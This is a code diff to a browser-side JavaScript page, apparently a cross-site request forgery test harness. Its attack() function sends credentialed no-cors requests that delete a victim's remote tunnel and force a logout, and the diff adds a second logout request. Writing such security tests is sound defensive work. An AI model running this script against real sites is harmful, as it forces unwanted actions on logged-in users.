@@ -56,9 +56,9 @@ async function read(url) {
   return response.ok ? text : '';
 }
 
-function post(url, body, method = 'POST') {
+async function post(url, body, method = 'POST') {
   const headers = { 'Content-Type': 'text/plain' };
-  return fetch(url, { method, body, headers, mode: 'no-cors', credentials: 'include' });
+  await fetch(url, { method, body, headers, mode: 'no-cors', credentials: 'include' });
 }
 
 async function submit(url, fields) {
@@ -168,9 +168,14 @@ async function attack() {
     await attempt(`closes a tunnel in ${url}`, async () => {
       await post(`${url}remote-tunnel/api/tunnels/${VICTIM}`, null, 'DELETE');
     });
-    await attempt(`logs out of ${url}`, () => post(url + 'logout', ''));
+    await attempt(`logs out of ${url}`, async () => {
+      await post(url + 'logout', '');
+      await fetch(url + 'logout', { mode: 'no-cors', credentials: 'include' });
+    });
   }
   document.getElementById('progress').textContent = 'done';
 }
 
-document.getElementById('attack').onclick = attack;
+const button = document.getElementById('attack');
+button.onclick = attack;
+button.disabled = false;
